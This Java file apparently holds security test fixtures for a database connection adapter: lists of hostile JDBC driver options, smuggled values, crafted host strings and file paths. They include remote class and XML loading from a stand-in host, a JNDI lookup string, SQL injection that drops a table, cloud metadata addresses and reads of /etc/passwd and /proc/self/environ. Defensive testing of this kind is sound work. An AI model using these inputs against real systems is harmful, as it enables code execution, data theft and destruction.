package dev.tabletalk.adapter.jdbc;

import dev.tabletalk.domain.connection.ConnectionId;
import dev.tabletalk.domain.connection.DatabaseAddress;
import dev.tabletalk.domain.connection.DatabaseConnection;
import dev.tabletalk.domain.connection.DatabaseKind;
import dev.tabletalk.domain.query.QueryLimits;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;

/** What is tried on every kind of connection. A new kind is one line in {@link #engines}. */
final class ConnectionAttacks {
    private ConnectionAttacks() {}

    /** @param folder where database files may be */
    static Map<DatabaseKind, Engine> engines(Path folder) {
        return Map.ofEntries(
                Map.entry(DatabaseKind.SQLITE, new SqliteEngine(new DatabaseFiles(List.of(folder)))),
                Map.entry(DatabaseKind.POSTGRESQL, new PostgresEngine(Reach.NETWORK)),
                Map.entry(DatabaseKind.SQLSERVER, droppedIn(new SqlServer(), folder)),
                Map.entry(DatabaseKind.CLICKHOUSE, droppedIn(new ClickHouse(), folder)),
                Map.entry(DatabaseKind.TRINO, droppedIn(new Trino(), folder)));
    }

    private static Engine droppedIn(DroppedIn system, Path folder) {
        return new DroppedInEngine(system, new DriverFolder(folder), Reach.NETWORK);
    }

    static DatabaseConnection connection(DatabaseKind kind, DatabaseAddress address) {
        return new DatabaseConnection(
                new ConnectionId("attack"), "Attack", kind, address, null, QueryLimits.DEFAULT, Instant.EPOCH);
    }

    /** Options that load code, read files, run SQL, go elsewhere or hide another option; of any driver, sent to all. */
    static final Map<String, String> OPTIONS = Map.ofEntries(
            Map.entry("allowLoadLocalInfile", "true"),
            Map.entry("allowLocalInfile", "true"),
            Map.entry("allowUrlInLocalInfile", "true"),
            Map.entry("autoDeserialize", "true"),
            Map.entry("queryInterceptors", "com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"),
            Map.entry("statementInterceptors", "x.Evil"),
            Map.entry("allowMultiQueries", "true"),
            Map.entry("socketFactory", "org.springframework.context.support.ClassPathXmlApplicationContext"),
            Map.entry("socketFactoryArg", "http://198.51.100.1/evil.xml"),
            Map.entry("socketFactoryClass", "x.Evil"),
            Map.entry("socketFactoryConstructorArg", "x"),
            Map.entry("sslfactory", "org.springframework.context.support.FileSystemXmlApplicationContext"),
            Map.entry("sslfactoryarg", "http://198.51.100.1/evil.xml"),
            Map.entry("sslhostnameverifier", "x.Evil"),
            Map.entry("sslpasswordcallback", "x.Evil"),
            Map.entry("sslkey", "/etc/passwd"),
            Map.entry("sslrootcert", "/etc/passwd"),
            Map.entry("loggerFile", "/tmp/evil.jsp"),
            Map.entry("loggerLevel", "TRACE"),
            Map.entry("authenticationPluginClassName", "x.Evil"),
            Map.entry("credentialType", "x.Evil"),
            Map.entry("trustManagerClass", "x.Evil"),
            Map.entry("trustStore", "/etc/passwd"),
            Map.entry("jaasLoginModule", "x"),
            Map.entry("jaasApplicationName", "x"),
            Map.entry("jaasConfigurationName", "x"),
            Map.entry("service", "evil"),
            Map.entry("initSql", "DROP TABLE canary"),
            Map.entry("initSQL", "DROP TABLE canary"),
            Map.entry("connectionInitSql", "DROP TABLE canary"),
            Map.entry("sessionVariables", "read_only=0"),
            Map.entry("options", "-c default_transaction_read_only=off"),
            Map.entry("localSocket", "/var/run/mysqld.sock"),
            Map.entry("localSocketAddress", "169.254.169.254"),
            Map.entry("pipe", "x"),
            Map.entry("serverRsaPublicKeyFile", "/etc/passwd"),
            Map.entry("session_init_sql_file", "/tmp/evil.sql"),
            Map.entry("allow_unsigned_extensions", "true"),
            Map.entry("custom_extension_repository", "http://198.51.100.1"),
            Map.entry("enable_external_access", "true"),
            Map.entry("enable_load_extension", "true"),
            Map.entry("INIT", "RUNSCRIPT FROM 'http://198.51.100.1/evil.sql'"),
            Map.entry("user", "postgres"),
            Map.entry("password", "x"),
            Map.entry("PGHOST", "169.254.169.254"),
            Map.entry("PGDBNAME", "x"),
            Map.entry("targetServerType", "primary"),
            Map.entry("readOnlyMode", "ignore"),
            Map.entry("preferQueryMode", "simple"),
            Map.entry("maxResultBuffer", "100p"),
            Map.entry("loginTimeout", "100000"),
            Map.entry("httpProxy", "169.254.169.254:80"),
            Map.entry("socksProxy", "169.254.169.254:80"),
            Map.entry("proxy_host", "169.254.169.254"),
            Map.entry("custom_http_headers", "Metadata=true"),
            Map.entry("dnsResolver", "x.Evil"),
            Map.entry("externalAuthentication", "true"),
            Map.entry("KerberosConfigPath", "/etc/passwd"),
            // The same name in another spelling is another name.
            Map.entry("SOCKETFACTORY", "x.Evil"),
            Map.entry("SocketFactory", "x.Evil"),
            Map.entry("socket%46actory", "x.Evil"),
            Map.entry("socket\u0000Factory", "x.Evil"),
            Map.entry(" socketFactory", "x.Evil"),
            Map.entry("socketFactory ", "x.Evil"),
            Map.entry("ſocketFactory", "x.Evil"),
            // One that is allowed, with another behind it.
            Map.entry("sslmode&socketFactory", "x.Evil"),
            Map.entry("sslmode=require&socketFactory", "x.Evil"),
            Map.entry("sslmode;socketFactory", "x.Evil"),
            Map.entry("sslmode?socketFactory", "x.Evil"),
            Map.entry("sslmode,sslmode", "require"),
            Map.entry("sslMode%26socketFactory", "x.Evil"),
            Map.entry("", "x"));

    /** Values that would bring another option along, for any option that is allowed. */
    static final List<String> VALUES = List.of(
            "require&socketFactory=x.Evil",
            "require%26socketFactory=x.Evil",
            "require%2526socketFactory=x.Evil",
            "require;socketFactory=x.Evil",
            "require?socketFactory=x.Evil",
            "require\nsocketFactory=x.Evil",
            "require\r\n",
            "require\u0000",
            "require,(host=169.254.169.254)",
            "{require;x=y}",
            "a'; DROP TABLE canary; --",
            "${jndi:ldap://198.51.100.1/x}",
            "");

    /** Hosts that are more than a host. */
    static final List<String> HOSTS = List.of(
            "(host=127.0.0.1)",
            "(host=127.0.0.1,allowLoadLocalInfile=true)",
            "address=(host=127.0.0.1)(port=3306)(allowLoadLocalInfile=true)",
            "address=(type=master)(localSocket=/tmp/x)",
            "(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=x)))",
            "127.0.0.1,169.254.169.254",
            "127.0.0.1:3306,169.254.169.254:80",
            "[127.0.0.1:3306,x:1]",
            "localhost:5432/other?socketFactory=x.Evil#",
            "localhost?socketFactory=x.Evil",
            "localhost/",
            "localhost#",
            "localhost;encrypt=false",
            "localhost\\instance",
            "localhost&x=y",
            "localhost%2f",
            "local host",
            "localhost\n",
            "localhost\u0000",
            "user:password@localhost",
            "@localhost",
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'",
            "ldap://198.51.100.1",
            "/var/run/postgresql",
            "\\\\.\\pipe\\MySQL",
            "${env:HOME}",
            "localhost\u202e");

    /** Texts that stay what they are: a strange name of a database, a user or a password. */
    static final List<String> STRANGE_NAMES = List.of(
            "x?socketFactory=x.Evil",
            "x&socketFactory=x.Evil",
            "x;socketFactory=x.Evil",
            "x/../y?ssl=false",
            "x#y",
            "x,y",
            "x%3FsocketFactory=x.Evil",
            "x%253FsocketFactory",
            "x%",
            "x+y",
            "x y",
            "?",
            "&",
            "//169.254.169.254:80/x",
            "(host=169.254.169.254)",
            "x}y{z",
            "x=y",
            "x\\y",
            "ä漢🔑");

    /** Paths that are no plain file below the folder. {@code @FOLDER@} stands for it. */
    static final List<String> FILES = List.of(
            ":memory:",
            ":resource:http://198.51.100.1/evil.db",
            ":RESOURCE:file:///etc/passwd",
            " :resource:http://198.51.100.1/evil.db",
            "file:shop.db",
            "FILE:shop.db?mode=rwc",
            "file:shop.db?vfs=x&cache=shared",
            "file%3Ashop.db",
            "jdbc:sqlite:shop.db",
            "jdbc:sqlite::resource:http://198.51.100.1/x",
            "http://198.51.100.1/evil.db",
            "s3://bucket/evil.db",
            "shop.db?enable_load_extension=true",
            "shop.db?journal_mode=DELETE",
            "shop.db%3Fenable_load_extension=true",
            "shop.db;x=y",
            "shop.db#x",
            "shop.db ",
            "shop.db/.",
            "../outside.db",
            "../databases-other/outside.db",
            "sub/../../outside.db",
            "..\\outside.db",
            "%2e%2e/outside.db",
            "~/outside.db",
            "link-out.db",
            "link-folder/outside.db",
            "link-device",
            "link-loop",
            "link-link-out.db",
            "link-missing.db",
            "a-folder",
            "missing.db",
            "text.db",
            "empty.db",
            "/etc/passwd",
            "/dev/zero",
            "/dev/stdin",
            "/proc/self/environ",
            "/proc/self/fd/0",
            "@FOLDER@",
            "@FOLDER@/../outside.db",
            ".",
            "..",
            "/",
            "\\\\198.51.100.1\\share\\evil.db",
            "C:\\evil.db",
            "*.db",
            "${env:HOME}/x.db");
}
